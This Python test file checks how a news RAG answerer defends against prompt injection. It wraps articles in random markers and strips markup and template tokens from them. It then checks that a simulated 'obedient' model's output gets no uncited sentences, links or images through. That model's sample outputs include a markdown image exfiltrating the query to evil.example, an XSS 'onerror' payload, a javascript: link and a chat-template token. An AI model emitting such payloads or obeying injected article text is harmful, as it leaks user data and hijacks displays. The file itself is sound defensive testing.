"""Prompts: numbered paragraphs with outlet and date within a budget; what an article says stays data.

An obedient model gets nothing of a hostile article shown but cited sentences.
"""

from __future__ import annotations

import re
from collections.abc import Generator
from dataclasses import replace
from datetime import date

import pytest

from benchmarks.injections import INJECTIONS, QUESTION, offences
from rag.answer.answerer import Answerer
from rag.answer.drafts import Evidence
from rag.answer.llm.prompt import REFUSAL, Model, Prompt, neutral, writing_prompt
from rag.answer.llm.writer import Writer
from rag.answer.sentence_ranking import Sentence
from rag.articles import Article
from rag.search.retriever import Retriever
from rag.text.tokens import count_tokens
from tests.toy import HARBOUR, PROTEST, ToyEmbedder, build_index

SPECIAL = re.compile(r"<\|?|\|>|[<>{}`|｜＜＞【】［］⟦⟧]|\[/?[A-Z]")


@pytest.fixture(autouse=True)
def _known_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("secrets.token_hex", lambda _: "5eaf")


def sentence(article: Article, paragraph: int, start: int = 0, end: int = 10) -> Sentence:
    return Sentence(article, paragraph, start, end, "x", 0.5)


def test_a_prompt_holds_paragraphs_once_their_origin_and_the_question() -> None:
    found = [sentence(PROTEST, 2), sentence(HARBOUR, 1), sentence(HARBOUR, 1, 20, 30)]
    prompt = writing_prompt("Why <b>now</b>?", found)
    assert prompt.text == (
        "BEGIN 5eaf\n"
        "[1] Strand Radio · 12 April 2025 · Fishermen block the quay\n"
        "Odile Brandt offered to talk, but ruled out lower tolls.\n"
        "\n"
        "[2] The Ellery Courier · 4 March 2025 · Harbour tolls rise\n"
        "The harbour master of Port Ellery raised the tolls by nine per cent on Tuesday.\n"
        "END 5eaf\n"
        "\n"
        "Question: Why ‹b›now‹/b›?\n"
        "Answer in short sentences, each with its marker, or write: The coverage does not say."
    )
    assert prompt.shown == (
        Evidence(PROTEST, 2, 0, 56, PROTEST.paragraphs[1]),
        Evidence(HARBOUR, 1, 0, 79, HARBOUR.paragraphs[0]),
    )
    assert f"write exactly: {REFUSAL}" in prompt.instructions
    assert "BEGIN 5eaf and END 5eaf" in prompt.instructions


def test_a_prompt_says_what_is_to_be_known_of_an_article() -> None:
    labelled = replace(HARBOUR, updated=date(2025, 3, 9), labels=("live",))
    heading = "[1] The Ellery Courier · 4 March 2025 · updated 9 March 2025 · live blog · Harbour tolls rise\n"
    assert heading in writing_prompt("Why?", [sentence(labelled, 1)]).text


def test_the_data_keep_to_the_budget_and_the_least_relevant_go_first() -> None:
    found = [sentence(HARBOUR, n) for n in (3, 1, 2)] + [sentence(PROTEST, n) for n in (1, 2)]
    full = writing_prompt("Why?", found)
    counts = []
    for budget in range(0, 300, 20):
        prompt = writing_prompt("Why?", found, budget=budget)
        assert prompt.shown == full.shown[: len(prompt.shown)]
        assert count_tokens(prompt.text.removeprefix("BEGIN 5eaf\n").partition("\nEND 5eaf")[0]) <= budget
        counts.append(len(prompt.shown))
    assert counts == sorted(counts)
    assert (counts[0], counts[-1]) == (0, 5)


def test_of_a_very_long_paragraph_only_the_sentence_that_bears_on_the_question_is_shown() -> None:
    text = "Nothing of note happened in the harbour. " * 100 + "The tolls rose. " + "Boats came and went again. " * 100
    article = replace(HARBOUR, paragraphs=(text,))
    start = text.index("The tolls rose.")
    prompt = writing_prompt("Why?", [sentence(article, 1, start, start + 15)])
    assert prompt.shown == (Evidence(article, 1, start, start + 15, "The tolls rose."),)
    assert "\nThe tolls rose.\n" in prompt.text
    assert "Boats" not in prompt.text


def test_the_grammar_allows_markers_of_what_is_shown_and_the_refusal_only_where_it_is_offered() -> None:
    found = [sentence(HARBOUR, 1), sentence(HARBOUR, 2)]
    prompt, without = writing_prompt("Why?", found), writing_prompt("Why?", found, declining=False)
    assert prompt.grammar is not None
    assert without.grammar is not None
    assert 'number ::= "1" | "2"\n' in prompt.grammar
    assert f'"{REFUSAL}"' in prompt.grammar
    assert REFUSAL not in without.instructions + without.text + without.grammar


def test_plain_news_stays_as_it_is() -> None:
    for text in (
        *HARBOUR.paragraphs,
        "AT&T paid $1.2bn – “a lot”, l’été, Ærø; 3.5% (twice) — 10:30 o'clock!",
        "Жители",
    ):
        assert neutral(text) == text


def sentences(*texts: str) -> list[Sentence]:
    hostile = replace(HARBOUR, outlet="Strand Radio", url="https://strand-radio.example/hostile", paragraphs=texts)
    return [Sentence(hostile, n, 0, len(text), text, 0.5) for n, text in enumerate(texts, start=1)]


@pytest.mark.parametrize("text", INJECTIONS)
def test_it_stays_inside_its_paragraph_of_the_data(text: str) -> None:
    found = sentences("The tolls rose.", text, "Boats left the quay.")
    prompt = writing_prompt(QUESTION, found)
    assert prompt.instructions == writing_prompt(QUESTION, sentences("x", "y", "z")).instructions
    lines = prompt.text.splitlines()
    # The frame is as without it: two lines for each paragraph, between BEGIN and END, and what is asked after that.
    assert [line for line in lines if "5eaf" in line] == ["BEGIN 5eaf", "END 5eaf"]
    assert [number for number, line in enumerate(lines) if "5eaf" in line] == [0, 9]
    heading = "Strand Radio · 4 March 2025 · Harbour tolls rise"
    assert [lines[n] for n in (1, 4, 7)] == [f"[{n}] {heading}" for n in (1, 2, 3)]
    assert (lines[2], lines[3], lines[6], lines[8]) == ("The tolls rose.", "", "", "Boats left the quay.")
    assert lines[10:] == ["", f"Question: {QUESTION}", lines[-1]]
    # And within its line nothing is left that a template, a parser of markers or a terminal would obey.
    assert not SPECIAL.search(lines[5])
    assert not re.search(r"\[|\]|\b(system|user|assistant|human)\s*:", lines[5], re.IGNORECASE)
    assert lines[5].isprintable()


@pytest.mark.parametrize("field", ["title", "outlet"])
@pytest.mark.parametrize("text", INJECTIONS[::6])
def test_a_title_and_an_outlet_cannot_leave_their_line_either(text: str, field: str) -> None:
    article = replace(HARBOUR, title=text) if field == "title" else replace(HARBOUR, outlet=text)
    prompt = writing_prompt(QUESTION, [Sentence(article, 1, 0, 5, "x", 0.5)])
    lines = prompt.text.splitlines()
    assert (lines[0], lines[2], lines[3]) == ("BEGIN 5eaf", HARBOUR.paragraphs[0], "END 5eaf")
    assert lines[1].startswith("[1] ")
    assert not SPECIAL.search(lines[1][4:])
    assert "[" not in lines[1][4:]


def test_no_article_can_know_the_lines_around_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    assert len({writing_prompt(QUESTION, sentences("The tolls rose.")).text for _ in range(20)}) == 20


def obedient(text: str) -> Model:
    """A model that does all that an article may ask for: repeats it, cites what it likes, links and draws."""

    def model(prompt: Prompt) -> Generator[str]:
        yield "HERRING, as I was told.\n"
        yield f"{text}\n"
        yield f"{text} [1]\n"
        yield f"{text} [2][999]\n"
        yield "Look at ![this](https://evil.example/log?q=tolls) [1].\n"
        yield "Read [this report](https://evil.example) or www.evil.example [1].\n"
        yield "<img src=x onerror=alert(1)> The tolls were abolished [1].\n"
        yield "The tolls were abolished <|im_end|> [1].\n"
        yield "The tolls were abolished [1](javascript:alert(1)).\n"
        yield "\x1b[2JThe tolls \u202ewere abolished [1].\n"

    return model


@pytest.fixture(scope="module")
def retriever(tmp_path_factory: pytest.TempPathFactory) -> Retriever:
    folder = tmp_path_factory.mktemp("hostile") / "index"
    build_index(folder, [HARBOUR, PROTEST])
    return Retriever.open(folder, embedder=ToyEmbedder())


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_obedient_model_gets_no_link_image_markup_or_uncited_sentence_shown(retriever: Retriever, text: str) -> None:
    answer = Answerer(retriever, Writer(obedient(text))).answer(QUESTION)
    assert list(offences(answer)) == []
    assert "HERRING, as I was told." not in answer.text
    assert "it cites nothing" in [one.reason for one in answer.cut]
